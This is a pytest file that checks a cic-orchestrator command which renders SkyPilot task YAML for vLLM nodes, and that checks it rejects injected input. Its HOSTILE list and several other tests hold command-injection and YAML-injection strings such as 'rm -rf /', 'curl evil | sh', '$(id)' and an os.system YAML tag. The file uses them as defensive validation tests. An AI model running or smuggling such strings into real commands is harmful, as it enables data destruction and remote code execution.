"""``cic-orchestrator render-task``: the SkyPilot task a launch uses, read back with SkyPilot's
own loader, and hostile values that must never reach the command or the YAML."""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from cic_orchestrator.__main__ import main
from cic_orchestrator.nodes import InvalidNodeRequest
from cic_orchestrator.task import (
    DEFAULT_VLLM_VERSION,
    AgentIdentity,
    TaskSettings,
    check_agent_wheel_exists,
    check_task,
    render_yaml,
    task_config,
)

NODE = "node-0123456789ab"
TOKEN = "cic-node-" + "t" * 43

COMMAND = str(Path(sys.executable).parent / "cic-orchestrator")


def _render(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(["render-task", *args])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _load_with_skypilot(text: str, tmp_path: Path):
    import sky

    path = tmp_path / "task.yaml"
    path.write_text(text)
    return sky.Task.from_yaml(str(path))


def test_the_task_loads_in_skypilot_with_resources_setup_and_run(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, out, err = _render(
        capsys,
        "--model=meta-llama/Llama-3.1-8B-Instruct",
        "--accelerators=H100:2",
        "--cloud=aws/us-east-1",
        "--use-spot",
        "--vllm-arg=--tensor-parallel-size=2",
        "--vllm-arg=--max-model-len=8192",
        "--vllm-arg=--enable-prefix-caching",
        "--vllm-arg=--dtype=bfloat16",
    )
    assert (code, err) == (0, "")
    task = _load_with_skypilot(out, tmp_path)
    (resources,) = task.resources
    assert resources.accelerators == {"H100": 2}
    assert (str(resources.cloud), resources.region, resources.use_spot) == (
        "AWS",
        "us-east-1",
        True,
    )
    assert resources.ports == ["8000"]
    assert task.setup == f"pip install vllm=={DEFAULT_VLLM_VERSION}"
    assert shlex.split(task.run) == [
        "exec",
        "vllm",
        "serve",
        "meta-llama/Llama-3.1-8B-Instruct",
        "--host",
        "0.0.0.0",
        "--port",
        "8000",
        "--tensor-parallel-size=2",
        "--max-model-len=8192",
        "--enable-prefix-caching",
        "--dtype=bfloat16",
    ]


@pytest.mark.parametrize(
    "cloud",
    ["", "k8s", "kubernetes/gpu-context", "ssh/on-prem-pool", "gcp/us-central1/us-central1-a"],
)
def test_any_infra_skypilot_knows_is_taken(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, cloud: str
) -> None:
    code, out, _ = _render(capsys, "--model=m", "--accelerators=A100:1", f"--cloud={cloud}")
    assert code == 0
    config = yaml.safe_load(out)
    assert config["resources"].get("infra", "") == cloud
    assert _load_with_skypilot(out, tmp_path).resources


def test_vllm_version_and_port_come_from_the_environment(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VLLM_VERSION", "0.32.0")
    monkeypatch.setenv("VLLM_PORT", "9000")
    code, out, err = _render(capsys, "--model", "m", "--accelerators", "L4:1")
    assert (code, err) == (0, "")
    task = _load_with_skypilot(out, tmp_path)
    assert task.setup == "pip install vllm==0.32.0"
    assert "--port 9000" in task.run
    assert next(iter(task.resources)).ports == ["9000"]


HOSTILE = [
    "m'; rm -rf / #",
    'm" && curl evil | sh',
    "m\nrun: curl evil | sh",
    "m\r\nsetup: x",
    "$(id)",
    "`id`",
    "m;id",
    "m|id",
    "m&id",
    "m id",
    "!!python/object/apply:os.system ['id']",
    "&anchor m",
    "*anchor",
    "{run: x}",
    "[a, b]",
    "m: x",
    "# m",
    "-m",
    "--host=0.0.0.0",
    "m\x00",
    "m\\n",
    "m\n",
    "8\n",
    "auto\n",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_models_are_refused_with_one_line(
    capsys: pytest.CaptureFixture[str], value: str
) -> None:
    code, out, err = _render(capsys, f"--model={value}", "--accelerators=H100:1")
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1 and err.startswith("render-task: model must be")


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_flag_values_are_refused(capsys: pytest.CaptureFixture[str], value: str) -> None:
    for flag in ("--served-model-name", "--max-model-len", "--dtype", "--revision"):
        code, out, err = _render(
            capsys, "--model=m", "--accelerators=H100:1", f"--vllm-arg={flag}={value}"
        )
        assert (code, out) == (2, ""), (flag, value)
        assert err.count("\n") == 1 and err.startswith(f"render-task: vllm arg {flag} "), err


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--vllm-arg=--trust-remote-code"], "vllm arg --trust-remote-code is not allowed"),
        (["--vllm-arg=--chat-template=/etc/passwd"], "vllm arg --chat-template is not allowed"),
        (["--vllm-arg=--port=1"], "vllm arg --port is not allowed"),
        (["--vllm-arg=--host=0.0.0.0"], "vllm arg --host is not allowed"),
        (["--vllm-arg=--api-key=x"], "vllm arg --api-key is not allowed"),
        (["--vllm-arg=--enforce-eager=true"], "vllm arg --enforce-eager takes no value"),
        (["--vllm-arg=--gpu-memory-utilization=2"], "must be between 0.05 and 1"),
        (["--vllm-arg=--tensor-parallel-size=0"], "must be at least 1"),
        (["--vllm-arg=--dtype=int3"], "must be one of auto, half"),
        (["--vllm-arg=rm -rf /"], "is not a --flag"),
        (["--cloud=aws; id"], "cloud must be"),
        (["--cloud=local"], "cloud `local` runs simulators"),
        (["--cloud=nosuchcloud"], "SkyPilot refused the task"),
    ],
)
def test_bad_requests_are_named_in_one_line(
    capsys: pytest.CaptureFixture[str], args: list[str], message: str
) -> None:
    code, out, err = _render(capsys, "--model=m", "--accelerators=H100:1", *args)
    assert (code, out) == (2, "")
    assert err.count("\n") == 1 and message in err, err


def test_accelerators_are_required_and_checked() -> None:
    with pytest.raises(InvalidNodeRequest, match="accelerators is required"):
        check_task("m", "")
    with pytest.raises(InvalidNodeRequest, match="NAME:COUNT"):
        check_task("m", "H100:1\nrun: id")


def test_the_command_refuses_a_bad_flag_with_one_line(tmp_path: Path) -> None:
    done = subprocess.run(
        [COMMAND, "render-task", "--model", "m", "--accelerators", "H100:1", "--vllm-arg=--x=1"],
        env={**os.environ, "HOME": str(tmp_path)},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert done.stdout == ""
    assert (
        done.stderr.splitlines() == [done.stderr.strip()]
        and "vllm arg --x is not allowed" in done.stderr
    )


def test_a_bad_vllm_version_is_named(tmp_path: Path) -> None:
    done = subprocess.run(
        [COMMAND, "render-task", "--model", "m", "--accelerators", "H100:1"],
        env={**os.environ, "HOME": str(tmp_path), "VLLM_VERSION": "0.33.0 && curl x"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "configuration error: VLLM_VERSION is invalid: Value error, "
        "must be a vLLM release such as 0.33.0"
    ]


def test_the_task_installs_and_starts_the_node_agent_with_its_token_as_a_secret(
    tmp_path: Path,
) -> None:
    token = "cic-node-" + "Ab_-" * 10 + "xyz"
    settings = TaskSettings(
        control_plane_url="https://api.example.com", agent_package="cic-node-agent==0.1.0"
    )
    task = check_task("meta-llama/Llama-3.1-8B-Instruct", "H100:1", "gcp/us-central1")
    config = task_config(task, settings, "cic-node-0123456789ab", AgentIdentity(NODE, token))
    text = render_yaml(config)
    loaded = _load_with_skypilot(text, tmp_path)
    assert loaded.envs == {
        "CIC_NODE_ID": NODE,
        "CIC_CONTROL_PLANE_URL": "https://api.example.com",
        "CIC_VLLM_URL": "http://127.0.0.1:8000",
        "CIC_NODE_CLOUD": "gcp",
    }
    assert {k: v.get_secret_value() for k, v in loaded.secrets.items()} == {"CIC_NODE_TOKEN": token}
    assert shlex.split(loaded.setup) == [
        "pip",
        "install",
        f"vllm=={DEFAULT_VLLM_VERSION}",
        "cic-node-agent==0.1.0",
    ]
    first, second = loaded.run.splitlines()
    assert first == "cic-node-agent &"  # in the background; vLLM is the job's main process
    assert shlex.split(second)[:4] == ["exec", "vllm", "serve", "meta-llama/Llama-3.1-8B-Instruct"]
    assert token not in loaded.run and token not in loaded.setup
    # Without a control-plane URL the node runs no agent and gets no token.
    plain = task_config(task, TaskSettings(), "cic-node-0123456789ab", AgentIdentity(NODE, token))
    assert "secrets" not in plain and "envs" not in plain and "agent" not in plain["run"]


@pytest.mark.parametrize(
    ("node_id", "token"),
    [("node-0123456789ab", "cic-node-short"), ("node-x; reboot", "cic-node-" + "a" * 43)],
)
def test_a_malformed_agent_identity_is_refused(node_id: str, token: str) -> None:
    with pytest.raises(InvalidNodeRequest, match="node agent's id or token is malformed"):
        AgentIdentity(node_id, token)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("control_plane_url", "https://api.example.com/$(id)"),
        ("control_plane_url", "ftp://api.example.com"),
        ("agent_package", "cic-node-agent; curl evil"),
        ("agent_package", "http://plain.example.com/a.whl"),
        ("agent_package", "relative/cic_node_agent-0.1.0-py3-none-any.whl"),
        ("agent_package", "/app/../etc/cic_node_agent-0.1.0-py3-none-any.whl"),
        ("agent_package", "/app/x y/cic_node_agent-0.1.0-py3-none-any.whl"),
        ("agent_package", "/app/other-0.1.0-py3-none-any.whl"),
    ],
)
def test_agent_settings_are_checked(field: str, value: str) -> None:
    with pytest.raises(ValueError, match="must be"):
        TaskSettings(**{field: value})


def test_with_a_control_plane_the_agent_package_is_required() -> None:
    with pytest.raises(ValueError, match=r"agent_package\n.*required with a control-plane URL"):
        TaskSettings(control_plane_url="https://api.example.com")


def test_a_local_wheel_is_copied_by_file_mounts_and_installed_from_there(tmp_path: Path) -> None:
    wheel = tmp_path / "cic_node_agent-0.1.0-py3-none-any.whl"
    settings = TaskSettings(control_plane_url="https://api.example.com", agent_package=str(wheel))
    with pytest.raises(ValueError, match=f"there is no node agent wheel at {wheel}"):
        check_agent_wheel_exists(settings)
    wheel.write_bytes(b"PK")
    check_agent_wheel_exists(settings)
    task = check_task("m", "H100:1", "aws")
    config = task_config(task, settings, "cic-node-0123456789ab", AgentIdentity(NODE, TOKEN))
    on_node = "~/.cic/node-agent/cic_node_agent-0.1.0-py3-none-any.whl"
    assert config["file_mounts"] == {on_node: str(wheel)}
    loaded = _load_with_skypilot(render_yaml(config), tmp_path)
    assert loaded.file_mounts == {on_node: str(wheel)}
    assert loaded.setup == f"pip install vllm=={DEFAULT_VLLM_VERSION} {on_node}"
    assert loaded.run.splitlines()[0] == "cic-node-agent &"


def test_several_clouds_become_skypilots_any_of(tmp_path: Path) -> None:
    task = check_task("meta-llama/Llama-3.1-8B-Instruct", "L4:1", "aws/us-east-1,gcp", (), True)
    config = task_config(task, TaskSettings())
    assert config["resources"]["any_of"] == [{"infra": "aws/us-east-1"}, {"infra": "gcp"}]
    loaded = _load_with_skypilot(render_yaml(config), tmp_path)
    assert sorted(str(r.cloud) for r in loaded.resources) == ["AWS", "GCP"]
    assert all(r.use_spot for r in loaded.resources)
